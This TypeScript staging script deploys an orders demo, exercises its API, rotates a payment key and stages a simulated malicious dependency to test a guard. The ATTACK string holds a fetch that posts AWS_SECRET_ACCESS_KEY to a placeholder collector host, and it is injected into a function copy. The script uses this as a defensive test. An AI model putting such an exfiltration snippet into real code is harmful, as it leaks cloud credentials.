/**
 * Deploys examples/orders on this machine, and leads an order, a rotation of its secret, and an attack through it.
 *
 *   npm run stage
 */
import { randomUUID } from 'crypto';
import * as fs from 'fs';
import * as path from 'path';
import { compareColdStarts, describeColdStarts } from './cold-starts';
import { OrdersStage } from './orders';

/** What a malicious dependency does first. */
const ATTACK = `
  const sent = fetch('https://collector.example.net/', { method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY }).then(({ status }) => status, (error) => error.cause.code);
  const { handler } = require('./original');
  exports.handler = async (event) => (console.log('the attack got ' + (await sent)), handler(event));
`;

async function lead(stage: OrdersStage): Promise<void> {
  const order = { id: randomUUID(), amount: 1200, currency: 'EUR' };
  show('POST /orders', await stage.call('POST', '/orders', order), 202);
  show('POST /orders with an amount of 0', await stage.call('POST', '/orders', { ...order, amount: 0 }), 400);
  show('POST /orders without a signature', await stage.client.send('POST', '/prod/orders', JSON.stringify(order), {}), 403);
  await stage.queue.drain();
  show('GET /orders/{id}', await stage.call('GET', `/orders/${order.id}`), 200);

  const failed = await stage.rotation.run(await stage.rotation.begin());
  verdict('the payment key is rotated', failed === undefined);

  await stage.with('ProcessOrder', { task: attacked(stage) }, async (fn) => {
    show('POST /orders, of which the function has a malicious dependency', await stage.call('POST', '/orders', { ...order, id: randomUUID() }), 202);
    await stage.queue.drain();
    verdict('the guard blocks the attack and counts it', stage.stolen.length === 0 && /"Blocked":1/.test(fn.logs));
  });
  verdict('both orders are paid', stage.provider.charges.size === 2);
  console.log(describeColdStarts(await compareColdStarts(stage, 5)));
}

function attacked(stage: OrdersStage): string {
  const task = stage.copyOf(stage.fn('ProcessOrder').deployed.task);
  fs.renameSync(path.join(task, 'process.js'), path.join(task, 'original.js'));
  fs.writeFileSync(path.join(task, 'process.js'), ATTACK);
  return task;
}

function show(what: string, { status, body }: { status: number; body: string }, expected: number): void {
  verdict(`${what}: ${status} ${body}`, status === expected);
}

function verdict(what: string, isRight: boolean): void {
  console.log(`${isRight ? '✓' : '✗'} ${what}`);
  if (!isRight) process.exitCode = 1;
}

async function main(): Promise<void> {
  const stage = new OrdersStage();
  for (const signal of ['SIGINT', 'SIGTERM', 'SIGHUP'] as const) process.once(signal, () => void stage.stop().then(() => process.exit(1)));
  try {
    console.log('examples/orders is being deployed …');
    await stage.start();
    await lead(stage);
  } finally {
    await stage.stop();
  }
}

main().catch((e: Error) => {
  console.error(e.message);
  process.exitCode = 1;
});
